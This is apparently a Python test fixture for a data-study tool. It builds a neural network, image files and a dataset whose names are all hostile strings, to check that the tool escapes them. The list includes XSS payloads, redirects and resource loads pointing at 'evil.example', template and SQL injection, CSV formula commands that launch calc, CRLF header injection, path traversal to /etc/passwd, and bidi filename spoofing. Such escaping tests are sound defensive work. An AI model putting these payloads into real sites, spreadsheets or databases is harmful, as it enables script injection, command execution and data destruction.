"""Names that would be markup, scripts, formulas or paths, and a Study all of such names."""

from dataclasses import replace
from pathlib import Path

import numpy as np
import pandas as pd
import torch
from PIL import Image
from torch import nn

from cutaway import Study, build_study, load_data, open_study

NAMES = (
    "<script>alert(1)</script>",
    "</script><script>window.pwned=1</script>",
    "<img src=x onerror=alert(1) id=pwned>",
    '"><img src=x onerror=alert(1)>',
    "'><svg/onload=alert(1)>",
    "`><x-pwned>",
    '" onmouseover="alert(1)" x="',
    "' onfocus='alert(1)' autofocus x='",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><script href="data:text/javascript,alert(1)"/>',
    '<iframe srcdoc="<script>parent.pwned=1</script>">',
    "<iframe src=javascript:alert(1)>",
    '<a href="javascript:alert(1)" id=pwned>here</a>',
    "javascript:alert(1)//",
    '<img srcset="https://evil.example/pwned 1x">',
    "<link rel=stylesheet href=https://evil.example/pwned.css>",
    "<style>@import 'https://evil.example/pwned';*{display:none}</style>",
    "</style><x-pwned>",
    "--><x-pwned><!--",
    "]]><x-pwned><![CDATA[",
    "</title></textarea></noscript></template><x-pwned>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/pwned'>",
    "<base href=https://evil.example/pwned/>",
    "<form action=https://evil.example/pwned><button>go",
    "<object data=https://evil.example/pwned><embed src=https://evil.example/pwned>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src onerror=1&gt;">',
    "<!-- the resources of the explorer -->",
    "{{7*7}}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "&lt;x-pwned&gt;",
    "&amp;lt;x-pwned&amp;gt; &#60;x-pwned&#x3e;",
    "\\u003cx-pwned\\u003e \\x3cx-pwned\\x3e",
    '"}]};alert(1);//',
    '{"__proto__":{"pwned":1}}',
    "__proto__",
    "constructor",
    "line\u2028alert(1)\u2029paragraph",
    "null\0byte<x-pwned>",
    "escape\x1b[31m\x07\x9b and \ufffe\x7f",
    "\u202egnp.exe\u202c\u2066",
    "=cmd|'/C calc'!A0",
    "+SUM(1+1)*cmd|'/C calc'!A0",
    "-2+3+cmd|'/C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\n=1+1",
    "\uff1d1+1",
    'two\r\nlines,"quoted"',
    "Set-Cookie: pwned=1\r\n\r\n<x-pwned>",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "%2e%2e%2f%3Cx-pwned%3E%00",
    "C:\\aux:nul|*?",
    "[here](javascript:alert(1)) ![](https://evil.example/pwned.png)",
    "$\\frac{1}{$ \\undefined{x}^2_",
    "url(https://evil.example/pwned);} * { display: none }",
    "' OR '1'='1'; DROP TABLE samples; --",
    "<x-pwned>" * 200,
)
ADDRESS = "evil.example"


class Hostile(nn.Module):
    """A small network whose layers bear such names; a full stop would part two of them."""

    def __init__(self) -> None:
        super().__init__()
        torch.manual_seed(0)
        self.add_module(layer_name("<x-pwned>first"), nn.Conv2d(1, 4, 3, stride=3))
        hidden = [layer_name(name) for name in NAMES[::2]]
        for name in hidden:
            self.add_module(name, nn.Linear(16, 16))
        self.add_module(layer_name("last</x-pwned>"), nn.Linear(16, len(NAMES)))

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        first, *hidden, last = self.children()
        x = first(x).relu().flatten(1)
        for layer in hidden:
            x = layer(x).relu() + x
        return last(x)


Hostile.__name__ = Hostile.__qualname__ = NAMES[2]


def layer_name(name: str) -> str:
    """A name as near to it as a module can have."""
    return name.replace(".", "\u2024")


def image_folder(folder: Path) -> Path:
    """Digits in files whose names are as near to these as a file system lets them be."""
    digits = load_data("digits").select(np.arange(2 * len(NAMES)))
    for number, name in enumerate(NAMES * 2):
        inside = folder / f"class {number % 3}"
        inside.mkdir(parents=True, exist_ok=True)
        near = name.replace("/", "\u2215").replace("\0", "")[:60]
        picture = Image.fromarray(digits.display(np.array([number]))[0, ..., 0])
        picture.save(inside / f"{near}{number}.png")
    return folder


def hostile_study(folder: Path) -> Study:
    """A Study with these names of classes, layers, files, columns and values, and in its title."""
    images = load_data(image_folder(folder / "images"))
    labels = np.arange(len(images.pixels)) % len(NAMES)
    data = replace(images, labels=labels, class_names=NAMES, name=NAMES[0])
    study = build_study(Hostile(), data, folder / f"{NAMES[6]}.study", maps={"pca": "*"})
    file = study.folder / "samples.parquet"
    samples = pd.read_parquet(file)
    count = len(samples)
    for number, name in enumerate(NAMES):
        samples[name] = np.linspace(0, number + 1, count)
    samples["=values"] = [NAMES[row % len(NAMES)] for row in range(count)]
    samples["=kinds"] = samples["=values"].astype("category")
    samples.to_parquet(file)
    return open_study(study.folder)
